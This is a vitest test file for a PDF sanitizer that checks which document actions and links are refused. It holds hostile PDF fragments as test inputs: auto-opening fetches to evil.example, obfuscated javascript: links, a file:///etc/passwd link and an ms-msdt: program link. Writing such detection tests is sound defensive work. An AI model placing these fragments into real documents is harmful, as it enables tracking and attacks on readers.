import { expect, test } from "vitest";
import { cpuTime } from "../../../tests/support/cpu-time.ts";
import { packedPdfOf, pdfOf } from "../documents.fixture.ts";
import { isHarmlessPdf } from "./harmless-pdf.ts";

const page = "[3 0 R/XYZ 0 842 0]";
const goes = `<</S/GoTo/D${page}>>`;
const fetches = "<</S/URI/URI(https://evil.example/opened?by=you)>>";
const object = (number: number, body: string) => `\n${number} 0 obj\n${body}\nendobj\n`;
/** Packed as LaTeX does: the action that the catalog names is an object beside it. */
const packed = (action: string, list = "1 0 7 34") =>
  packedPdfOf({
    keys: `/Type/ObjStm/N 2/First ${list.length + 1}/Filter/FlateDecode`,
    objects: `${list} <</Pages 2 0 R/OpenAction 7 0 R>> ${action}`,
  });

test.each([
  `/OpenAction${page}`,
  `/OpenAction ${goes}`,
  "/OpenAction null",
  "/OpenAction<< /Type /Action /S /GoTo /D (Section 1.2) >>",
  `/OpenAction 7 0 R${object(7, goes)}`,
  `/OpenAction 7 0 R${object(7, page)}`,
  `/OpenAction 7 0 R${object(17, fetches)}${object(7, goes)}`,
  "/A<</S/URI/URI(https://ada.example/work?of=mine)>>",
  "/A<</Type/Action/URI(mailto:ada@x.example)/S/URI>>",
  "/A<</S/URI/URI(tel:+44)>>/A<</S/URI/URI(work.html#a:b)>>",
  "/A<</S/URI/URI <68747470733a2f2f78>>>",
  `/A<</S/URI/URI 8 0 R>>${object(8, "(http://x.example)")}`,
  "/Font<</AAAAAA+Calibri 5 0 R/EF1 6 0 R>>",
])("a document with %s opens as any", async (text) => {
  expect(await isHarmlessPdf(pdfOf(text))).toBe(true);
});

test.each([
  ["an address that is opened", `/OpenAction${fetches}`],
  ["one by numbers", `/Open#41ction${fetches.replaceAll("/URI", "/#55RI")}`],
  ["one behind a page", `/OpenAction<</S/GoTo/D${page}/Next${fetches}>>`],
  [
    "one behind a text that seems to end it",
    "/OpenAction<</D(>>)/S/URI/URI(http://evil.example)>>",
  ],
  ["one by a name that is a number", "/OpenAction<</S/GoT#6f/S/URI>>"],
  ["one as another object", `/OpenAction 7 0 R${object(7, fetches)}`],
  ["one in a later revision", `/OpenAction 7 0 R${object(7, goes)}${object(7, fetches)}`],
  ["one whose object cannot be found", "/OpenAction 7 0 R"],
  [
    "one whose object is hidden by a comment",
    `/OpenAction 7 0 R${object(7, goes)}7%\n0 obj${fetches}`,
  ],
  [
    "one inside a picture",
    `/OpenAction 7 0 R${object(7, goes)}<<>>stream\n7 0 obj${fetches}endstream`,
  ],
  ["another action by itself", "/OpenAction<</S/Named/N/Print>>"],
  ["an action when a page is seen", `/AA<</O${fetches}>>`],
  ["the same by numbers", `/A#41<</O${fetches}>>`],
  ["a link that is a script", "/A<</S/URI/URI(javascript:alert(1))>>"],
  ["one with letters by number", "/A<</S/URI/URI(java\\163cript:alert(1))>>"],
  ["one with a line break in it", "/A<</S/URI/URI( java\nscript:alert(1))>>"],
  ["one in hexadecimal", `/A<</S/URI/URI<${Buffer.from("JavaScript:x").toString("hex")}>>>`],
  [
    "one of two bytes a letter",
    `/A<</S/URI/URI<feff${Buffer.from("js:").toString("hex").replaceAll(/../g, "00$&")}>>>`,
  ],
  ["one as another object", `/A<</S/URI/URI 8 0 R>>${object(8, "(javascript:x)")}`],
  ["a link to a file", "/A<</S/URI/URI(file:///etc/passwd)>>"],
  ["a link to a program", "/A<</S/URI/URI(ms-msdt:/id)>>"],
  ["a base of its own", "/URI<</Base(https://evil.example)>>"],
  ["an address that is no text", "/A<</S/URI/URI[1]>>"],
  [
    "a file that does not say that it is one",
    "/Names<</EmbeddedFiles<</Names[(x)<</EF<</F 9 0 R>>>>]>>>>",
  ],
])("with %s it is refused", async (_, text) => {
  expect(await isHarmlessPdf(pdfOf(text))).toBe(false);
});

test("packed objects are found by their number", async () => {
  expect(await isHarmlessPdf(packed(goes))).toBe(true);
  expect(await isHarmlessPdf(packed(page))).toBe(true);
  expect(await isHarmlessPdf(packed(fetches))).toBe(false);
  expect(await isHarmlessPdf(packed(`${goes} ${fetches}`, "1 0 7 67"))).toBe(false);
  expect(await isHarmlessPdf(packed("<</A<</S/URI/URI(javascript:x)>>>>"))).toBe(false);
});

test("ten megabytes of openings, links and objects hold up no one", async () => {
  const size = 10_000_000;
  for (const piece of [
    "/OpenAction 7 0 R",
    "/OpenAction<<",
    "/URI(",
    "/URI 7 0 R",
    "7 0 obj ",
    "1 0 2 0 ",
    "obj",
    "/URI<",
  ]) {
    const file = packedPdfOf({ before: `/OpenAction 7 0 R ${piece.repeat(size / piece.length)}` });
    const started = cpuTime();
    await isHarmlessPdf(file);
    expect([piece, cpuTime() - started < 1_000]).toEqual([piece, true]);
  }
});
